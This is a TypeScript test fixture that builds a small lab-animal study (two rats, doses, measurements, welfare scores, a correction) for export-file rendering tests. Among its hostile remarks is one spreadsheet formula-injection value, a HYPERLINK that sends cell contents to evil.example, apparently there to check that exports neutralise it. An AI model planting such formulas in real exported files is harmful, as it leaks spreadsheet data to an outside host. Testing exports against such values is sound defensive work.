import { fileNamed, renderFile } from '../../src/exports/files.js';
import { NO_PEOPLE } from '../../src/lab/people/people.js';
import { studyPeople } from '../../src/lab/people/study-people.js';
import { finish } from '../../src/study/steps.js';
import { snapshotOf, type FileSource } from '../../src/exports/snapshot.js';
import type { Study } from '../../src/study/study.js';
import {
  about,
  at,
  because,
  corrected,
  day,
  died,
  dosed,
  enrolled,
  excluded,
  measured,
  ready,
  sideEffects,
  stimulated,
  weighed,
} from '../study/bench.js';
import { sent, type Given } from '../study/specification.js';

/** What a spreadsheet would run, were it let. */
export const FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click, and; see")';

/** Two animals and at least one of everything that a file of a study shows, a correction and hostile remarks among it. */
export function smallStudy(): Study {
  return smallBench().study;
}

/** The same, to go on with. */
export function smallBench(): Given {
  return ready()
    .and(
      stimulated(day(18, '10:00')),
      measured('low', day(18, '10:15'), { session: 10, minute: 15 }),
      measured('middle', day(18, '10:30'), { session: 10, minute: 30 }),
      because('Washout is not awaited', dosed(day(20, '09:00'))),
      measured('low', day(20, '09:15'), { session: 13, minute: 15 }),
      sideEffects(day(20, '09:15'), 13, 1),
      weighed(day(21), '243.70'),
      corrected(16, {
        subject: 'R01',
        occurredAt: day(21),
        corrected: { weight: { value: '0.24380', unit: 'kg' }, comment: FORMULA },
      }),
      measured('0.4-', day(22), { paw: 'contralateral' }),
      at(day(22), about('R01', 'ScoreWelfare', { comment: 'Quiet\nand “warm”, says 1;2' })),
      died(day(25)),
    )
    .and({
      ...enrolled('R02'),
      clock: '2026-03-29T08:00:00Z',
      body: { ...enrolled('R02').body, reason: 'Sheet found' },
    })
    .and(excluded(day(27), 'R02'))
    .and(
      because('Sheet found', at(day(21), about('R01', 'DesignateSubEffectiveDose', { evidence: [13] }))),
      at(day(28), about('R02', 'ReportAdverseEvent')),
      at(day(28), about('R02', 'RecordIntervention', { because: 24 })),
      at(day(28, '11:00'), about('R02', 'ScoreWelfare', { scores: [{ item: 'autotomy', score: 3 }] })),
      at(day(28, '11:00'), about('R02', 'DecideEndpoint', { endpoint: 'autotomy', reachedBy: 26 })),
      at(day(29), about('R02', 'RecordFate')),
      because('Never above 2', at(day(29), about('R01', 'AssessSeverity'))),
      sent('AcknowledgeDeviation', {
        data: { target: { number: 21 }, assessment: 'Sheet mislaid', impact: 'minor' },
      }),
    );
}

export function sourceOf(study: Study, simulated = false, people = NO_PEOPLE): FileSource {
  const root = 'bm90IGEgcm9vdCBvZiBhbnkgdHJlZSwgZm9yIHRlc3Q=';
  return {
    study,
    people: finish(studyPeople(study, people)),
    names: new Map(),
    snapshot: snapshotOf(study, { facility: 'lab.example', simulated, root, version: '0.0.0' }),
  };
}

export function render(name: string, source: FileSource): Promise<Uint8Array> {
  return renderFile(fileNamed(name)!, source);
}
